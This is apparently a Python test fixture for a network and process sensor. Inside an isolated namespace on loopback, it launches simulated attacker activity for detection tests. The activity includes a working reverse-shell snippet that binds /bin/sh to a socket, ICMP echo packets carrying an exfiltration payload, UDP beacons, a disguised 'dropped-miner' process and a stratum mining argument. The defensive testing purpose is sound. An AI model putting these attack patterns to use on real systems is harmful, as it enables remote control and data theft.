"""A pod for the namespace tests: run as pid 1 of a fresh pid + network namespace (see test_namespaces.py).

It brings up the namespace's loopback, starts what an attacker would run, then two sensors recording to
files: one as it ships (netlink), one under a seccomp filter that refuses netlink sockets (the /proc/net
fallback). `manifest.json` in the work directory names the pids and ports of each role. Everything stays
inside the namespace: only its own loopback is used. It runs until killed; the namespace dies with it.

Usage: namespace_pod.py WORKDIR TRAINGUARD
"""

from __future__ import annotations

import ctypes
import json
import os
import platform
import shutil
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

PY = sys.executable

SERVER = """
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(8)
def drain(c):
    while c.recv(65536):
        pass
while True:
    c, _ = s.accept(); threading.Thread(target=drain, args=(c,), daemon=True).start()
"""

BULK_CLIENT = """
import socket, sys, time
c = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
while True:
    c.sendall(b"x" * 4096); time.sleep(0.05)
"""

RAW_AND_ICMP = """
import socket, time
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
echo = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
request = bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b"exfiltrated-payload"
while True:
    echo.sendto(request, ("127.0.0.1", 0))  # ping -p: the payload rides in the echo request
    raw.sendto(request, ("127.0.0.1", 0))
    time.sleep(0.1)
"""

UDP_SENDER = """
import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
while True:
    u.sendto(b"beacon", ("127.0.0.1", 5599)); u6.sendto(b"beacon", ("::1", 5599)); time.sleep(0.1)
"""

EXEC_IN_PLACE = """
import os, sys, time
work = sys.argv[1]
while not os.path.exists(os.path.join(work, "exec-now")):
    time.sleep(0.02)
with open(os.path.join(work, "exec-time"), "w") as f:
    f.write(repr(time.time()))
os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "stratum+tcp://pool:3333"])
"""

RENAMED = """
import ctypes, time
ctypes.CDLL(None).prctl(15, b"pause", 0, 0, 0)  # PR_SET_NAME
time.sleep(600)
"""

REVERSE_SHELL = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""


def refuse_netlink() -> None:
    """Install a seccomp filter: socket(AF_NETLINK, ...) fails with EPERM, everything else is allowed."""
    arch, nr_socket = {"x86_64": (0xC000003E, 41), "aarch64": (0xC00000B7, 198)}[platform.machine()]
    ld, jeq, ret = 0x20, 0x15, 0x06
    allow, eperm = 0x7FFF0000, 0x00050000 | 1
    program = [
        (ld, 0, 0, 4),  # arch
        (jeq, 0, 5, arch),
        (ld, 0, 0, 0),  # syscall number
        (jeq, 0, 3, nr_socket),
        (ld, 0, 0, 16),  # args[0], low 32 bits: the family
        (jeq, 0, 1, socket.AF_NETLINK),
        (ret, 0, 0, eperm),
        (ret, 0, 0, allow),
    ]
    filters = b"".join(struct.pack("=HBBI", *insn) for insn in program)
    buffer = ctypes.create_string_buffer(filters)

    class Fprog(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]

    libc = ctypes.CDLL(None, use_errno=True)
    fprog = Fprog(len(program), ctypes.addressof(buffer))
    if libc.prctl(38, 1, 0, 0, 0) != 0:  # PR_SET_NO_NEW_PRIVS
        raise OSError(ctypes.get_errno(), "PR_SET_NO_NEW_PRIVS")
    if libc.prctl(22, 2, ctypes.byref(fprog), 0, 0) != 0:  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
        raise OSError(ctypes.get_errno(), "PR_SET_SECCOMP")


def main() -> None:
    work, trainguard = Path(sys.argv[1]), sys.argv[2]
    if sys.argv[3:4] == ["--refused"]:  # the fallback sensor: refuse netlink, then become the sensor
        refuse_netlink()
        os.execv(trainguard, [trainguard, *sys.argv[4:]])
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    Path("/proc/sys/net/ipv4/ping_group_range").write_text("0 2147483647\n")  # this namespace's own setting
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    server_port, shell_port = 3333, 4444
    server = subprocess.Popen([PY, "-c", SERVER, str(server_port)], **quiet)
    listener = socket.socket()
    listener.bind(("127.0.0.1", shell_port))
    listener.listen(1)  # the attacker's end of the reverse shell: it holds the connection, sends nothing
    deadline = time.monotonic() + 10
    while True:
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", server_port)) == 0:
                break
        if time.monotonic() > deadline:
            raise SystemExit("the server did not come up")
        time.sleep(0.02)
    dropped = work / "dropped-miner"
    shutil.copy("/bin/sleep", dropped)
    roles = {
        "server": server,
        "bulk": subprocess.Popen([PY, "-c", BULK_CLIENT, str(server_port)], **quiet),
        "raw_icmp": subprocess.Popen([PY, "-c", RAW_AND_ICMP], **quiet),
        "udp": subprocess.Popen([PY, "-c", UDP_SENDER], **quiet),
        "exec": subprocess.Popen([PY, "-c", EXEC_IN_PLACE, str(work)], **quiet),
        "renamed": subprocess.Popen(["pause", "-c", RENAMED], executable=PY, **quiet),
        "deleted": subprocess.Popen([str(dropped), "600"], **quiet),
        "shell": subprocess.Popen([PY, "-c", REVERSE_SHELL, str(shell_port)], **quiet),
    }
    held, _ = listener.accept()
    dropped.unlink()
    common = ["sensor", "--interval", "0.2", "--gpu-source", "none", "--pod", "test/ns"]
    sensors = {
        "sensor_netlink": subprocess.Popen([trainguard, *common, "--record", str(work / "netlink.jsonl")], **quiet),
        "sensor_proc": subprocess.Popen(
            [PY, __file__, str(work), trainguard, "--refused", *common, "--record", str(work / "proc.jsonl")], **quiet
        ),
    }
    manifest = {name: p.pid for name, p in {**roles, **sensors}.items()}
    manifest |= {"server_port": server_port, "shell_port": shell_port, "python": os.path.realpath(PY)}
    (work / "manifest.json.tmp").write_text(json.dumps(manifest))
    (work / "manifest.json.tmp").rename(work / "manifest.json")
    while True:  # pid 1 of the namespace: reap orphans until killed
        try:
            os.wait()
        except ChildProcessError:
            time.sleep(0.5)
        _ = held


if __name__ == "__main__":
    main()
